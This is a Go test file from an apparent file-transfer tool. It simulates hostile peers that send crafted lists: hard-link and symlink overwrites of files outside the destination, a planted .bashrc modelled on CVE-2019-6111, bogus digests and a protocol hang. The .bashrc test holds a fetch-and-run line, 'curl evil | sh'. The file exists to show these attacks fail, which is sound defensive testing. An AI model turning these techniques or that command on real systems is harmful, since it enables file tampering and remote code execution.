package xfer

// Probes of the tree copy (control protocol 8) by a hostile peer that gets past the list checks
// and sends data: a remote that answers a pull with a crafted list *and* its bytes (through the
// real sender engine), a client that pushes a crafted tree to the real server. Each test
// asserts what stands outside the destination afterwards: bytes, mode, mtime and link count.

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	fcopy "github.com/farwing/farwing/copy"
	"github.com/farwing/farwing/fec"
	"github.com/farwing/farwing/internal/session"
	"github.com/farwing/farwing/internal/treetest"
	"github.com/farwing/farwing/internal/tuning"
	"github.com/farwing/farwing/internal/wire"
	"github.com/farwing/farwing/lane/lanetest"
)

// hostileSender is a remote peer for a pull that runs the real protocol and sender engine but
// answers the hello with files (whatever the client asked for) and their bytes (data, by name;
// missing means zeros of the listed size). before, if set, runs once the list is accepted, just
// before the data (to send extra control messages, say).
func hostileSender(files []fcopy.File, data map[string][]byte, before func(ctl *Control)) func(context.Context, io.Reader, io.Writer, string, ServeOptions) error {
	return func(ctx context.Context, r io.Reader, w io.Writer, clientPub string, so ServeOptions) error {
		ctx, cancel := context.WithCancelCause(ctx)
		defer cancel(nil)
		ctl := NewControl(r, w, nil)
		ctl.Start(cancel)
		cpub, err := decodePub(clientPub)
		if err != nil {
			return err
		}
		priv, err := newKex()
		if err != nil {
			return err
		}
		key, connID, err := sessionKey(priv, cpub, cpub.Bytes(), priv.PublicKey().Bytes())
		if err != nil {
			return err
		}
		crypto, err := wire.NewCrypto(key, connID, wire.ServerToClient)
		if err != nil {
			return err
		}
		conns, err := so.Lanes("0.0.0.0:0")
		if err != nil {
			return err
		}
		path := session.NewPath(conns, crypto, true)
		defer path.Close()
		ctl.Send(Msg{T: KindReady, Version: Version, Proto: Proto, Ports: path.Ports(), Addr: serverHost.String(), Pub: encodePub(priv.PublicKey())})
		if _, err := ctl.Expect(ctx, KindHello, PeerIdle); err != nil {
			return err
		}
		plan, err := fcopy.NewPlan(files)
		if err != nil {
			return fmt.Errorf("the hostile list does not even pass the plan check: %w", err)
		}
		path.SendTrainOnHello()
		sendFiles(ctl, Msg{T: KindFiles}, files)
		acc, err := ctl.Expect(ctx, KindAccept, 2*PeerIdle)
		if err != nil {
			return err
		}
		if err := path.WaitPeers(ctx, 15*time.Second); err != nil {
			return err
		}
		if before != nil {
			before(ctl)
		}
		open := func(i int) (io.ReaderAt, io.Closer, error) {
			b, ok := data[files[i].Name]
			if !ok {
				b = make([]byte, files[i].Size)
			}
			return bytes.NewReader(b), io.NopCloser(nil), nil
		}
		_, err = runSend(ctx, ctl, path, tuning.Settings{}, plan, open, session.SenderConfig{Window: tuning.ClampWindow(acc.Window), FEC: fec.Mode{Kind: fec.ModeOff}}, acc.AutoWindow, nil, nil)
		return err
	}
}

// victim is a file outside the destination, and what must still be true of it afterwards.
type victim struct {
	path  string
	body  []byte
	mode  os.FileMode
	mtime time.Time
	nlink uint64
	ino   uint64
}

func newVictim(t *testing.T, dir string) *victim {
	t.Helper()
	p := filepath.Join(dir, "victim")
	old := time.Unix(1_000_000_000, 0)
	if err := os.WriteFile(p, []byte("keep me"), 0o640); err != nil {
		t.Fatal(err)
	}
	os.Chmod(p, 0o640)
	os.Chtimes(p, old, old)
	v := &victim{path: p, body: []byte("keep me"), mode: 0o640, mtime: old}
	v.nlink, v.ino = linkCount(t, p)
	return v
}

func linkCount(t *testing.T, p string) (nlink, ino uint64) {
	t.Helper()
	st, err := os.Lstat(p)
	if err != nil {
		t.Fatal(err)
	}
	s := st.Sys().(*syscall.Stat_t)
	return uint64(s.Nlink), s.Ino
}

// untouched fails t unless the victim has its bytes, mode, mtime and link count (extra is the
// number of links the test itself made to it).
func (v *victim) untouched(t *testing.T, extra uint64) {
	t.Helper()
	st, err := os.Lstat(v.path)
	if err != nil {
		t.Fatalf("victim: %v", err)
	}
	b, _ := os.ReadFile(v.path)
	s := st.Sys().(*syscall.Stat_t)
	switch {
	case !bytes.Equal(b, v.body):
		t.Errorf("the victim outside the destination now holds %q", b)
	case st.Mode().Perm() != v.mode:
		t.Errorf("the victim's mode changed to %04o", st.Mode().Perm())
	case !st.ModTime().Equal(v.mtime):
		t.Errorf("the victim's mtime changed to %s", st.ModTime())
	case uint64(s.Nlink) != v.nlink+extra:
		t.Errorf("the victim has %d links, want %d: something in the destination was hard-linked to it", s.Nlink, v.nlink+extra)
	}
}

// sameInode reports whether a and b are one file.
func sameInode(a, b string) bool {
	sa, err1 := os.Lstat(a)
	sb, err2 := os.Lstat(b)
	return err1 == nil && err2 == nil && os.SameFile(sa, sb)
}

func pullCtx(t *testing.T) context.Context {
	ctx, cancel := context.WithTimeout(context.Background(), 40*time.Second)
	t.Cleanup(cancel)
	return ctx
}

// TestPullHostileOverExistingHardLink: the destination already holds t/f, a hard link to a file
// outside it (or t/f is a symbolic link to it). A hostile remote sends t/f as a file, as a
// symbolic link, or (-H) as a hard link to another file of the list, with -p: every time t/f
// is replaced by a new inode (renamed over, never O_TRUNC of the old one), and the outside file
// keeps its bytes, mode, mtime and link count.
func TestPullHostileOverExistingHardLink(t *testing.T) {
	d := func(n string) fcopy.File { return fcopy.File{Name: n, Dir: true, Mode: 0o777, MTime: 1} }
	for _, c := range []struct {
		what     string
		existing string // "hard" or "sym"
		files    []fcopy.File
	}{
		{"a file over a hard link", "hard", []fcopy.File{d("t"), {Name: "t/f", Size: 6, Mode: 0o777, MTime: 5}}},
		{"a link over a hard link", "hard", []fcopy.File{d("t"), {Name: "t/f", Link: "pwned", Mode: 0o777, MTime: 5}}},
		{"a hard link over a hard link", "hard", []fcopy.File{d("t"), {Name: "t/a", Size: 6, Mode: 0o777, MTime: 5}, {Name: "t/f", Hard: "t/a"}}},
		{"an empty file over a hard link", "hard", []fcopy.File{d("t"), {Name: "t/f", Mode: 0o777, MTime: 5}}},
		{"a file over a symlink", "sym", []fcopy.File{d("t"), {Name: "t/f", Size: 6, Mode: 0o777, MTime: 5}}},
		{"a hard link over a symlink", "sym", []fcopy.File{d("t"), {Name: "t/a", Size: 6, Mode: 0o777, MTime: 5}, {Name: "t/f", Hard: "t/a"}}},
	} {
		t.Run(c.what, func(t *testing.T) {
			outside, dst := t.TempDir(), t.TempDir()
			v := newVictim(t, outside)
			os.Mkdir(filepath.Join(dst, "t"), 0o755)
			if c.existing == "hard" {
				if err := os.Link(v.path, filepath.Join(dst, "t", "f")); err != nil {
					t.Fatal(err)
				}
			} else {
				os.Symlink(v.path, filepath.Join(dst, "t", "f"))
			}
			e := newEnv(t, lanetest.Link{}, 1)
			e.serve = hostileSender(c.files, map[string][]byte{"t/f": []byte("PWNED!"), "t/a": []byte("PWNED!")}, nil)
			o := e.options()
			o.Recursive, o.Preserve, o.HardLinks = true, true, true
			if _, err := Pull(pullCtx(t), o, "host", []string{"t"}, dst); err != nil {
				t.Fatalf("pull: %v", err)
			}
			v.untouched(t, 0) // the link the test made is gone: t/f was renamed over
			if sameInode(v.path, filepath.Join(dst, "t", "f")) {
				t.Error("t/f is still the outside file")
			}
		})
	}
}

// TestProbePullFreeRequestBringsFile: a pull of the remote's home directory ("host:", "host:.",
// "host:~") without -r cannot legitimately bring anything (the home directory is a directory,
// which needs -r), yet the client takes one top-level name of the remote's choosing: a hostile
// remote answers with a regular file ".bashrc" and the client writes DST/.bashrc (in a user's
// home directory: their shell start-up file). CVE-2019-6111's shape. With -r the free name
// should at least be a directory (the home directory is one), so a top-level file is refused
// there too.
//
// HOLE (found by this probe, fixed with it): copy.MatchRequest let a "free" request (requestBase
// false) bring a top-level entry of any kind, with or without -r; it now takes only a directory.
func TestProbePullFreeRequestBringsFile(t *testing.T) {
	for _, c := range []struct {
		path string
		r    bool
	}{{"", false}, {".", false}, {"~", false}, {"", true}, {"~/", true}} {
		t.Run(fmt.Sprintf("%q -r=%v", c.path, c.r), func(t *testing.T) {
			dst := t.TempDir()
			e := newEnv(t, lanetest.Link{}, 1)
			e.serve = hostileSender([]fcopy.File{{Name: ".bashrc", Size: 18, Mode: 0o644}},
				map[string][]byte{".bashrc": []byte("curl evil | sh  #\n")}, nil)
			o := e.options()
			o.Recursive = c.r
			_, err := Pull(pullCtx(t), o, "host", []string{c.path}, dst)
			t.Log(err)
			if _, serr := os.Lstat(filepath.Join(dst, ".bashrc")); serr == nil {
				t.Errorf("a pull of %q wrote the remote's .bashrc into the destination (err %v)", c.path, err)
			}
			if CodeOf(err) != CodeProtocol {
				t.Errorf("pull of %q answered with a top-level file: %v (exit %d), want exit %d", c.path, err, CodeOf(err), CodeProtocol)
			}
		})
	}
}

// TestPullHostileDigestForLink: a remote that sends a digest for a directory, a symbolic link
// or a hard link of its list (which have no bytes) is refused with the protocol code.
func TestPullHostileDigestForLink(t *testing.T) {
	files := []fcopy.File{{Name: "t", Dir: true, Mode: 0o755}, {Name: "t/a", Size: 3, Mode: 0o644},
		{Name: "t/l", Link: "a", Mode: 0o777}, {Name: "t/h", Hard: "t/a"}, {Name: "t/z", Size: 2 << 20, Mode: 0o644}}
	for i, what := range map[int]string{0: "directory", 2: "link", 3: "hard link", 5: "beyond the list", -1: "negative"} {
		t.Run(what, func(t *testing.T) {
			dst := t.TempDir()
			e := newEnv(t, lanetest.Link{}, 1)
			e.serve = hostileSender(files, nil, func(ctl *Control) {
				ctl.Send(Msg{T: KindDigest, File: i, Sum: strings.Repeat("00", 32)})
			})
			o := e.options()
			o.Recursive, o.HardLinks = true, true
			_, err := Pull(pullCtx(t), o, "host", []string{"t"}, dst)
			if CodeOf(err) != CodeProtocol || !strings.Contains(fmt.Sprint(err), "malformed digest") {
				t.Fatalf("a digest for the %s: %v (exit %d)", what, err, CodeOf(err))
			}
			if _, serr := os.Lstat(filepath.Join(dst, "t", "z")); serr == nil {
				t.Fatal("t/z was placed")
			}
		})
	}
}

// TestPullHostileLongLink: a link target of 4095 bytes (the most a Linux link holds) arrives as
// it was sent; one of 4096 is refused before anything is written.
func TestPullHostileLongLink(t *testing.T) {
	long := strings.Repeat("../", 1365) // 4095 bytes
	for _, c := range []struct {
		target string
		ok     bool
	}{{long, true}, {long + "x", false}} {
		dst := t.TempDir()
		e := newEnv(t, lanetest.Link{}, 1)
		list := []fcopy.File{{Name: "t", Dir: true, Mode: 0o755}, {Name: "t/l", Link: c.target}}
		if c.ok {
			e.serve = hostileSender(list, nil, nil)
		} else { // the sender's own check would stop it: send the list as it is
			e.serve = hostileServer(func(ctl *Control, _ Msg) error { return sendFiles(ctl, Msg{T: KindFiles}, list) }, nil)
		}
		o := e.options()
		o.Recursive = true
		_, err := Pull(pullCtx(t), o, "host", []string{"t"}, dst)
		if c.ok {
			if err != nil {
				t.Fatalf("a %d-byte link: %v", len(c.target), err)
			}
			if got, _ := os.Readlink(filepath.Join(dst, "t", "l")); got != c.target {
				t.Fatalf("link target of %d bytes, want %d", len(got), len(c.target))
			}
			continue
		}
		if CodeOf(err) != CodeProtocol {
			t.Fatalf("a %d-byte link: %v (exit %d)", len(c.target), err, CodeOf(err))
		}
		treetest.Empty(t, dst)
	}
}

// TestPullHostileTreeThroughOwnLinks: a hostile remote's tree that passes the list checks but
// whose later entries would go through a link this very list made (t/l → outside, then a
// hard link named t/l's target, a directory of the list whose mode -p sets, a file beside) is
// written without a byte, a mode or a time reaching outside.
func TestPullHostileTreeThroughOwnLinks(t *testing.T) {
	outside, dst := t.TempDir(), t.TempDir()
	v := newVictim(t, outside)
	outDir := filepath.Join(outside, "d")
	os.Mkdir(outDir, 0o750)
	old := time.Unix(1_000_000_000, 0)
	os.Chtimes(outDir, old, old)
	files := []fcopy.File{
		{Name: "t", Dir: true, Mode: 0o777, MTime: 7},
		{Name: "t/l", Link: outside, MTime: 7}, // a link to the outside directory
		{Name: "t/v", Link: v.path, MTime: 7},  // a link to the outside file
		{Name: "t/d", Dir: true, Mode: 0o777, MTime: 7},
		{Name: "t/d/f", Size: 6, Mode: 0o777, MTime: 7},
		{Name: "t/d/h", Hard: "t/d/f"},
		{Name: "t/w", Size: 6, Mode: 0o777, MTime: 7},
	}
	e := newEnv(t, lanetest.Link{}, 1)
	e.serve = hostileSender(files, map[string][]byte{"t/d/f": []byte("PWNED!"), "t/w": []byte("PWNED!")}, nil)
	o := e.options()
	o.Recursive, o.Preserve, o.HardLinks = true, true, true
	if _, err := Pull(pullCtx(t), o, "host", []string{"t"}, dst); err != nil {
		t.Fatalf("pull: %v", err)
	}
	v.untouched(t, 0)
	st, _ := os.Lstat(outDir)
	if st.Mode().Perm() != 0o750 || !st.ModTime().Equal(old) {
		t.Errorf("the outside directory is now %04o, %s", st.Mode().Perm(), st.ModTime())
	}
	if ents, _ := os.ReadDir(outDir); len(ents) != 0 {
		t.Errorf("the outside directory holds %s", ents[0].Name())
	}
	if l, _ := os.Readlink(filepath.Join(dst, "t", "v")); l != v.path {
		t.Errorf("t/v → %q", l)
	}
}

// TestPushHostileSecondPushThroughOwnLink: a first push makes t/l a link to a directory
// outside; a second push of t/l/x (the link's name as a directory, then a file below it), and
// one of t/l as a file, are refused or replace the link: nothing appears outside.
func TestPushHostileSecondPushThroughOwnLink(t *testing.T) {
	outside := t.TempDir()
	v := newVictim(t, outside)
	dst := t.TempDir()
	os.MkdirAll(filepath.Join(dst, "t"), 0o755)
	os.Symlink(outside, filepath.Join(dst, "t", "l")) // as a first push leaves it
	list := []fcopy.File{{Name: "t", Dir: true, Mode: 0o755}, {Name: "t/l", Dir: true, Mode: 0o777, MTime: 3}, {Name: "t/l/victim", Size: 5, Mode: 0o777}}
	e := newEnv(t, lanetest.Link{}, 1)
	o := e.options()
	c2, _, err := start(pullCtx(t), &o, "host", Msg{Role: RoleRecv, Dest: dst, Files: list, Window: 16, Preserve: true}, &Result{})
	if err != nil {
		t.Fatal(err)
	}
	defer c2.close(0)
	_, err = c2.ctl.Next(c2.ctx, 10*time.Second)
	var re *RemoteError
	if !errors.As(err, &re) || re.Code != CodeDest {
		t.Fatalf("server's answer: %v", err)
	}
	v.untouched(t, 0)
	st, _ := os.Stat(outside)
	if st.Mode().Perm() == 0o777 {
		t.Error("the outside directory got the pushed mode")
	}
}

// TestProbeByeBeforeDigests: a remote that sends "bye" before its digests (a protocol
// violation: bye comes after the verdict) stops the client's reading of the control channel
// (runRecv's reader returns at the first bye), so the digests that follow are never taken and
// the writer waits for them for as long as the remote keeps its lanes alive with pings: the
// client hangs instead of failing with the protocol code.
//
// HOLE (denial of service; not tree-specific; found by this probe, fixed with it): runRecv's
// reader now refuses a bye before this end has sent "done" (ErrProtocol).
func TestProbeByeBeforeDigests(t *testing.T) {
	files := []fcopy.File{{Name: "t", Dir: true, Mode: 0o755}, {Name: "t/a", Size: 3 << 20, Mode: 0o644}}
	e := newEnv(t, lanetest.Link{}, 1)
	e.serve = hostileSender(files, nil, func(ctl *Control) { ctl.Send(Msg{T: KindBye}) })
	o := e.options()
	o.Recursive = true
	ctx, cancel := context.WithTimeout(context.Background(), 25*time.Second)
	defer cancel()
	start := time.Now()
	_, err := Pull(ctx, o, "host", []string{"t"}, t.TempDir())
	if CodeOf(err) != CodeProtocol {
		t.Errorf("bye before the digests: after %s, %v (exit %d)", time.Since(start).Round(time.Second), err, CodeOf(err))
	}
}

// hostilePush pushes files (crafted, with data by name) to the real server's dest as a client
// that skips its own checks would, and returns the outcome.
func hostilePush(t *testing.T, e *env, dest string, files []fcopy.File, data map[string][]byte, preserve bool) error {
	t.Helper()
	plan, err := fcopy.NewPlan(files)
	if err != nil {
		t.Fatal(err)
	}
	o := e.options()
	ctx := pullCtx(t)
	c, ready, err := start(ctx, &o, "host", Msg{Role: RoleRecv, Dest: dest, Files: files, Window: 16, Preserve: preserve}, &Result{})
	if err != nil {
		return err
	}
	defer c.close(0)
	if err := c.openPath(c.ctx, &o, "host", ready, c.crypto, false, false); err != nil {
		return err
	}
	// The server says what it already has (protocol 9); the hostile client takes its word.
	have, err := c.ctl.Expect(c.ctx, KindHave, haveWithin(o.Compare, plan.TotalBytes()))
	if err != nil {
		return err
	}
	if err := takeHave(plan, o.Compare, o.Sink, have.Have); err != nil {
		return err
	}
	open := func(i int) (io.ReaderAt, io.Closer, error) {
		b, ok := data[files[i].Name]
		if !ok {
			b = make([]byte, files[i].Size)
		}
		return bytes.NewReader(b), io.NopCloser(nil), nil
	}
	_, err = runSend(c.ctx, c.ctl, c.path, tuning.Settings{}, plan, open, session.SenderConfig{Window: 16, InitialRTT: c.rtt, FEC: fec.Mode{Kind: fec.ModeOff}}, false, nil, nil)
	return err
}

// TestPushHostileOverExistingHardLink: the server's destination holds t/f, a hard link to a
// file outside it, and t/g, a symbolic link to it; a client pushes t/f as a file and t/g as a
// hard link to it, with -p: both are new inodes, the outside file is as it was.
func TestPushHostileOverExistingHardLink(t *testing.T) {
	outside, dst := t.TempDir(), t.TempDir()
	v := newVictim(t, outside)
	os.Mkdir(filepath.Join(dst, "t"), 0o755)
	os.Link(v.path, filepath.Join(dst, "t", "f"))
	os.Symlink(v.path, filepath.Join(dst, "t", "g"))
	files := []fcopy.File{{Name: "t", Dir: true, Mode: 0o777, MTime: 3}, {Name: "t/f", Size: 6, Mode: 0o777, MTime: 3}, {Name: "t/g", Hard: "t/f"}}
	e := newEnv(t, lanetest.Link{}, 1)
	if err := hostilePush(t, e, dst, files, map[string][]byte{"t/f": []byte("PWNED!")}, true); err != nil {
		t.Fatalf("push: %v", err)
	}
	v.untouched(t, 0)
	if sameInode(v.path, filepath.Join(dst, "t", "f")) || sameInode(v.path, filepath.Join(dst, "t", "g")) {
		t.Error("t/f or t/g is still the outside file")
	}
	if !sameInode(filepath.Join(dst, "t", "f"), filepath.Join(dst, "t", "g")) {
		t.Error("t/g is not a hard link to t/f")
	}
}
